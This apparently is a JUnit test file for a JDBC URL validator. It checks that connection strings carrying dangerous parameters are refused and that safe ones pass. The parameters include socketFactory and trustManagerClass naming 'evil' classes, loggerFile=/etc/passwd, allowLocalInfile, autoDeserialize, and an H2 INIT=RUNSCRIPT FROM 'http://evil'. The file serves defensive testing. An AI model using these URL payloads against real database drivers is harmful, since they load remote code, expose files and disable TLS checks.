package io.tidegate.agent.source.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a URL may say. */
class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/db?socketFactory=evil.Factory",
                "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/passwd",
                "jdbc:postgresql://h/db?options=-c%20default_transaction_read_only=off",
                "jdbc:postgresql://h/db?user=a&password=b",
                "jdbc:mariadb://h/db?allowLocalInfile=true",
                "jdbc:mysql://h/db?autoDeserialize=true",
                "jdbc:sqlserver://h;databaseName=d;trustManagerClass=evil.Trust",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"
            })
    void parametersThatLoadCodeOrSwitchOffSafeguardsAreRefused(String url) {
        assertThrows(BadQueryException.class, () -> JdbcUrl.of("acd", url));
    }

    @Test
    void theRefusalNamesWhatIsAllowed() {
        var refused =
                assertThrows(
                        BadQueryException.class,
                        () -> JdbcUrl.of("acd", "jdbc:mariadb://h/db?password=secret"));

        assertEquals(
                "database.acd.url holds the parameter password, which is not allowed: allowed are"
                        + " sslMode, useCompression; what else is needed has a setting of its own",
                refused.getMessage());
    }

    @Test
    void whereAndHowSafelyMayBeSaid() throws Exception {
        var url =
                JdbcUrl.of(
                        "acd",
                        "jdbc:postgresql://a:5432,b/db?sslmode=verify-full&targetServerType=any");

        assertTrue(url.verified());
        assertEquals(
                "jdbc:mariadb://h/db?sslMode=trust",
                JdbcUrl.of("acd", "jdbc:mysql://h/db?sslMode=trust").text());
        JdbcUrl.of("acd", "jdbc:sqlserver://h\\inst:1433;databaseName=d;encrypt=strict;");
    }
}
